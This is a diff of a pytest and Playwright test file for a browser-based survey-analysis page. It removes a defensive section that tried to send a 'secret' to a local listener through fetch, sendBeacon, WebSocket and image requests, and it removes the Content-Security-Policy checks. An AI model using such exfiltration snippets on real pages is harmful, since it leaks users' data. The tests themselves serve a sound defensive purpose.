@@ -1,40 +1,20 @@
-"""The page *Analyse a survey here*: the command's bytes out of a browser, and nothing into the network."""
+"""The page *Analyse a survey here*: the command's bytes out of a browser."""
 
 import csv
 import os
-import re
 import subprocess
 import sys
-import zipfile
 from pathlib import Path
 
 import pytest
-import yaml
 from axe_playwright_python.sync_playwright import Axe
 from conftest import ROOT
-from visits import Visit, in_a_browser
+from surveying import CONTENTS, KEPT, PAGE, RUSSIAN, Survey, state, with_python
+from visits import Visit
 
-from softpower.site.browser import engine, fetch, policy
-
-pytestmark = [
-    *in_a_browser,
-    pytest.mark.skipif(
-        fetch.package() is None, reason="Python for the browser was not fetched: its page was NOT tested"
-    ),
-]
-PAGE = "chapters/analyse-a-survey.html"
-RUSSIAN = ROOT / "tests/data/survey-exports/ru-forms-freq.csv"
+pytestmark = with_python
 EXPORTS = ROOT / "data/synthetic/exports"
 GROUP = "Which city do you live in?"
-
-
-def state(page, *wanted: str, seconds: float = 120) -> str:
-    """Waits until the page is in one of these states, and returns what it then says."""
-    inside = ", ".join(f"#status[data-state={one}]" for one in (*wanted, "error"))
-    page.wait_for_selector(inside, timeout=seconds * 1000)
-    said = page.inner_text("#status")
-    assert page.get_attribute("#status", "data-state") in wanted, said
-    return said
 
 
 def stumbling(page) -> list[tuple[str, str]]:
@@ -43,47 +23,6 @@ def stumbling(page) -> list[tuple[str, str]]:
     options = {"resultTypes": ["violations"], "rules": {"target-size": {"enabled": True}}}
     found = Axe().run(page, options=options).response["violations"]
     return [(fault["id"], node["html"][:120]) for fault in found for node in fault["nodes"]]
-
-
-KEPT = """window.blobs = new Map(); const make = URL.createObjectURL;
-URL.createObjectURL = (blob) => { const address = make.call(URL, blob); blobs.set(address, blob); return address; };"""
-CONTENTS = """async () => Object.fromEntries(await Promise.all([...document.querySelectorAll('#report .sp-files a')].map(async (link) =>
-  [link.download, await blobs.get(link.href).text()])))"""
-
-
-class Survey(Visit):
-    """The page with a file that was analysed."""
-
-    def __init__(self, browser, site, served, path, language="en", width=1440, **choices):
-        context = browser.new_context(viewport={"width": width, "height": 844}, accept_downloads=True)
-        context.add_init_script(KEPT)
-        super().__init__(context, site, served, f"{PAGE}?lang={language}", scroll=False)
-        assert self.page.get_attribute("#status", "data-state") == "idle"
-        assert not self.python()  # nothing of it is loaded before a file is chosen
-        self.page.set_input_files("#file", path)
-        self.said = state(self.page, "ready")
-        for name, value in choices.items():
-            field = self.page.locator(f"#choose-{name}")
-            field.select_option(value) if field.evaluate(
-                "field => field.tagName"
-            ) == "SELECT" else field.fill(value)
-
-    def python(self) -> list[str]:
-        return [url for url in self.asked if re.search(r"/python-[0-9a-f]{12}/", url)]
-
-    def analyse(self) -> dict[str, bytes]:
-        """The files that the page offers: the content of its links; one of them is saved as a reader saves it."""
-        self.page.click("#analyse")
-        state(self.page, "done")
-        out = {name: text.encode() for name, text in self.page.evaluate(CONTENTS).items()}
-        with self.page.expect_download() as download:
-            self.page.click("#report a[download='items.csv']")
-        assert Path(download.value.path()).read_bytes() == out["items.csv"]
-        with self.page.expect_download() as download:
-            self.page.click("#report a[download='survey-report.zip']")
-        with zipfile.ZipFile(download.value.path()) as archive:
-            assert {name: archive.read(name) for name in archive.namelist()} == out
-        return out
 
 
 def by_command(folder: Path, source: Path, *options: str) -> dict[str, bytes]:
@@ -133,6 +72,33 @@ def test_every_file_has_the_bytes_that_the_command_writes(browser, site, served,
         assert survey.page.inner_text("#report h2") == "Отчёт"
         frame = survey.page.frame_locator("#report iframe")
         assert "Как часто?" in frame.locator("body").inner_text()
+
+
+def test_another_language_is_that_of_the_report_and_a_way_leads_to_each_of_its_parts(browser, site, served):
+    survey = Survey(browser, site, served, EXPORTS / "google-forms.csv", group=GROUP)
+    survey.analyse()
+    page, said = survey.page, survey.page.inner_text("#report")
+    assert "“How respondents came to answer” drawn at random" in said and "--" not in said.split("Scales")[0]
+    page.get_by_role("button", name="Differences between groups").click()
+    page.wait_for_function("() => window.scrollY > 500")
+    seen = page.frame_locator("#report iframe").get_by_role("heading", name="Differences between groups")
+    assert 0 <= seen.bounding_box()["y"] < 300
+    page.select_option("#language", "kk")
+    page.get_by_role("button", name="Топтар арасындағы айырмашылықтар").wait_for(timeout=60_000)
+    assert state(page, "done").endswith("төменде тұр.")
+
+
+def test_what_stands_in_three_languages_says_the_same(pages):
+    """The parts of the page that are folded, in Kazakh and Russian, have the points of the English."""
+    article = pages[PAGE].select_one("article")
+    folds = {fold["lang"]: fold for fold in article.select("details[lang]")}
+    steps = [len(part.select("ol > li")) for part in folds.values()]
+    assert set(folds) == {"kk", "ru"} and steps == [
+        len(article.select("#what-happens-to-your-file ol > li"))
+    ] * 2 == [3, 3]
+    for part in folds.values():
+        said = part.get_text()
+        assert all(word in said for word in ("KoboToolbox", "SPSS", "Pyodide", "cookie", "20 М", "100 000"))
 
 
 def test_what_is_corrected_in_the_form_is_what_is_computed(browser, site, served, tmp_path):
@@ -194,6 +160,7 @@ def test_a_click_answers_what_may_be_the_middle_and_what_belongs_together(
     assert page.locator("#together li").first.inner_text().endswith("→ Культура")
     assert stumbling(page) == [] and page.evaluate("document.documentElement.scrollWidth") == 390
     page.locator("#against").get_by_label(STATEMENTS[1]).check()
+    assert "Ваши ответы внесены" in page.inner_text("#status") and "шкал: 2" in page.inner_text("#status")
     files = survey.analyse()
     scales = list(csv.DictReader(files["scales.csv"].decode().splitlines()))
     assert [row["scale"] for row in scales] == ["Культура", "Доверие"] and {row["n"] for row in scales} == {
@@ -365,155 +332,3 @@ def test_the_keyboard_is_enough_and_nothing_stumbles(browser, site, served):
     assert page.evaluate("document.activeElement.download") == "survey-report.zip"
     assert page.evaluate("document.documentElement.scrollWidth") == 390
     assert stumbling(page) == []
-
-
-# ---- private by construction ---------------------------------------------------------------------------------
-
-SEND = {
-    "fetch": "await fetch('http://{host}/?secret', {{mode: 'no-cors'}})",
-    "beacon": "if (!navigator.sendBeacon('http://{host}/?secret', 'secret')) throw new Error('refused')",
-    "socket": "await new Promise((yes, no) => {{ const s = new WebSocket('ws://{host}/'); s.onopen = yes; s.onerror = () => no(new Error('refused')); }})",
-    "picture": "await new Promise((yes, no) => {{ const i = new Image(); i.onload = yes; i.onerror = () => no(new Error('refused')); i.src = 'http://{host}/?secret'; }})",
-}
-WORKER = """async ([code, base]) => {
-  const source = `const BASE = '${base}'; onmessage = async () => { try { ${code}; postMessage('sent'); } catch (e) { postMessage('refused'); } };`;
-  const worker = new Worker(URL.createObjectURL(new Blob([source], {type: 'text/javascript'})));
-  return new Promise(done => { worker.onmessage = event => done(event.data); worker.postMessage(1); });
-}"""
-
-
-@pytest.mark.parametrize("way", SEND)
-@pytest.mark.parametrize("page_name", [PAGE, "chapters/check-a-figure.html"])
-def test_nothing_can_be_sent_out(browser, site, served, other_host, page_name, way):
-    """From the page, and from a worker that is started as Python's is; the other host does listen."""
-    visit = Visit(browser.new_context(), site, served, page_name, scroll=False)
-    code = SEND[way].format(host=other_host.address)
-    tried = f"async () => {{ try {{ {code}; return 'sent'; }} catch (fault) {{ return 'refused'; }} }}"
-    assert (
-        visit.page.evaluate(tried) == "refused" or way == "beacon"
-    )  # a beacon is accepted, and then not sent
-    if way in ("fetch", "socket"):
-        assert visit.page.evaluate(WORKER, [code, served]) == "refused"
-    visit.page.wait_for_timeout(200)
-    assert other_host.heard == []
-
-
-def test_the_same_is_sent_where_no_policy_forbids_it(browser, site, served, other_host):
-    """The test above can fail: another page of the book has no such policy, and the host hears it."""
-    visit = Visit(browser.new_context(), site, served, "chapters/your-own-survey.html", scroll=False)
-    visit.page.evaluate(f"async () => {{ {SEND['fetch'].format(host=other_host.address)} }}")
-    assert other_host.heard
-
-
-def test_pythons_own_thread_cannot_send(browser, site, served, other_host):
-    survey = Survey(browser, site, served, RUSSIAN)
-    [worker] = survey.page.workers
-    for asked in (
-        f"fetch('http://{other_host.address}/')",
-        f"plain('http://{other_host.address}/', {{mode: 'no-cors'}})",
-    ):
-        assert (
-            worker.evaluate(
-                f"async () => {{ try {{ await {asked}; return 'sent'; }} catch (fault) {{ return 'refused'; }} }}"
-            )
-            == "refused"
-        )
-    assert other_host.heard == []
-
-
-@pytest.fixture
-def other_host():
-    import http.server
-    import threading
-
-    class Listening(http.server.BaseHTTPRequestHandler):
-        def do_GET(self):
-            self.server.heard.append(self.path)
-            self.send_response(200)
-            self.end_headers()
-
-        do_POST = do_GET
-
-        def log_message(self, *_):
-            pass
-
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listening)
-    server.heard, server.address = [], f"127.0.0.1:{server.server_port}"
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield server
-    server.shutdown()
-
-
-# ---- the engine ----------------------------------------------------------------------------------------------
-
-
-def test_the_policy_allows_no_script_but_the_pages_own(site):
-    for name in (PAGE, "chapters/check-a-figure.html"):
-        page = (site / name).read_text("utf-8")
-        [found] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page)
-        assert found == policy.text(page)
-        parts = dict(part.split(" ", 1) for part in found.split("; "))
-        assert (
-            parts["default-src"] == "'none'"
-            and parts["connect-src"] == "'self'"
-            and parts["worker-src"] == "blob:"
-        )
-        assert "'unsafe-inline'" not in parts["script-src"] and "http" not in found
-        assert page.index("Content-Security-Policy") < page.index("<script")
-
-
-def test_the_engine_is_made_anew_with_the_same_bytes_and_carries_its_licence():
-    raw = fetch.package()
-    one, other = engine._make(raw), engine._make(raw)
-    assert one == other
-    licence = one["LICENSE.txt"].decode()
-    assert "Mozilla Public License Version 2.0" in licence and fetch.SOURCE in licence
-    assert sum(map(len, one.values())) < 6_500_000
-
-
-def test_the_site_holds_the_engine_and_no_page_loads_it_at_once(site, pages):
-    [folder] = [path for path in site.glob("python-*") if path.is_dir()]
-    assert {path.name for path in folder.iterdir()} >= {
-        "LICENSE.txt",
-        "worker.js",
-        "pyodide.asm.wasm.gz",
-        "softpower.zip",
-    }
-    loading = [
-        (name, str(tag))
-        for name, soup in pages.items()
-        for tag in soup.find_all(["script", "link"])
-        if folder.name in str(tag)
-    ]
-    assert loading == []
-
-
-def test_another_file_in_the_packages_place_stops_the_build(tmp_path, monkeypatch):
-    other = tmp_path / "pyodide.tgz"
-    other.write_bytes(b"not it")
-    monkeypatch.setenv("SOFTPOWER_PYODIDE", str(other))
-    with pytest.raises(fetch.NotThePackage, match="not 6749b10e"):
-        fetch.package()
-
-
-def test_without_the_package_the_book_builds_and_both_pages_say_so(
-    small_copy, builder, tmp_path, monkeypatch, browser
-):
-    for name in ("analyse-a-survey", "check-a-figure"):
-        (small_copy / f"chapters/{name}.md").write_text(
-            f"# A tool\n\nWhat it does.\n\n```{{{name}}}\n```\n", encoding="utf-8"
-        )
-    path = small_copy / "_toc.yml"
-    toc = yaml.safe_load(path.read_text("utf-8"))
-    toc["parts"][0]["chapters"] += [
-        {"file": "chapters/analyse-a-survey"},
-        {"file": "chapters/check-a-figure"},
-    ]
-    path.write_text(yaml.safe_dump(toc, sort_keys=False), "utf-8")
-    pages = builder.site(small_copy, tmp_path / "out", SOFTPOWER_PYODIDE=str(tmp_path / "nothing.tgz"))
-    assert not list(pages.glob("python-*"))
-    text = (pages / "chapters/analyse-a-survey.html").read_text("utf-8")
-    assert "was built without Python for the browser" in text and "survey init FILE" in text
-    page = browser.new_page()
-    page.goto(f"file://{pages}/chapters/check-a-figure.html?kind=share&printed=35.6&n=149")
-    assert "one count gives it, 53" in page.inner_text("#result")
